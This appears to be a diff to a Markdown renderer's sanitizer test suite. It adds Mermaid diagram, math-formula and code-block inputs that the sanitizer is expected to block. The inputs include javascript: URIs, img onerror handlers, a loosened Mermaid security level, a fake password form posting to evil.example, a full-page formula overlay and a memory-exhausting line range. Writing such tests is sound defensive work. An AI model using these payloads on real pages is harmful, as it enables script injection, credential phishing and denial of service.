@@ -87,6 +87,20 @@ const stopped: Record<string, string> = {
   'a formula that links to a script': '<math href="javascript:alert(1)">Text</math>',
   'a form that sends to a script': '<form action="javascript:alert(1)"><button>Text</button></form>',
   'a button that sends to a script': '<form><button formaction="javascript:alert(1)">Text</button></form>',
+  // Diagrams, formulas, and code
+  'a diagram that links to a script':
+    '```mermaid\nflowchart LR\n  a[Text] --> b\n  click a href "javascript:alert(1)"\n```',
+  'a diagram that calls a function': '```mermaid\nflowchart LR\n  a[Text] --> b\n  click a call alert(1)\n```',
+  'a diagram with markup in a label': '```mermaid\nflowchart LR\n  a["<img src=x onerror=alert(1)>"] --> b\n```',
+  'a diagram that asks to be trusted':
+    '```mermaid\n%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  a["<img src=x onerror=alert(1)>"] --> b\n  click a href "javascript:alert(1)"\n```',
+  'a diagram with a form in a label':
+    '```mermaid\nflowchart LR\n  a["<form action=\'https://evil.example/\'><input name=password><button>Log in</button></form>"] --> b\n```',
+  'a diagram with an image from elsewhere': '```mermaid\nflowchart LR\n  a@{ img: "https://evil.example/a.png" }\n```',
+  'a diagram that links elsewhere': '```mermaid\nflowchart LR\n  a\n  click a href "https://evil.example/"\n```',
+  'a formula that covers the page':
+    '[$\\smash{\\rlap{\\hspace{-3000px}\\raisebox{-3000px}{\\rule{9000px}{9000px}}}}$](https://evil.example/)',
+  'a range of lines that fills the memory': '```js {1-999999999}\nalert(1)\n```',
   // Foreign content
   'a frame from elsewhere': '<iframe src="https://evil.example/"></iframe>',
   'a frame that is a script': '<iframe src="javascript:alert(1)"></iframe>',
@@ -132,12 +146,6 @@ const text: Record<string, string> = {
   'a link that is a script, after a sign that Markdown replaces': '[Text](&#1;javascript:alert%281%29)',
   'a heading whose anchor ends early': '## Text" onclick="alert(1)',
   'a formula of another language': '$\\{alert(1)}',
-  'a diagram that links to a script':
-    '```mermaid\nflowchart LR\n  a[Text] --> b\n  click a href "javascript:alert(1)"\n```',
-  'a diagram that calls a function': '```mermaid\nflowchart LR\n  a[Text] --> b\n  click a call alert(1)\n```',
-  'a diagram with markup in a label': '```mermaid\nflowchart LR\n  a["<img src=x onerror=alert(1)>"] --> b\n```',
-  'a diagram that asks to be trusted':
-    '```mermaid\n%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  a["<img src=x onerror=alert(1)>"] --> b\n  click a href "javascript:alert(1)"\n```',
 };
 
 const list = (of: Record<string, string>, onPage: Attack['onPage']): Attack[] =>
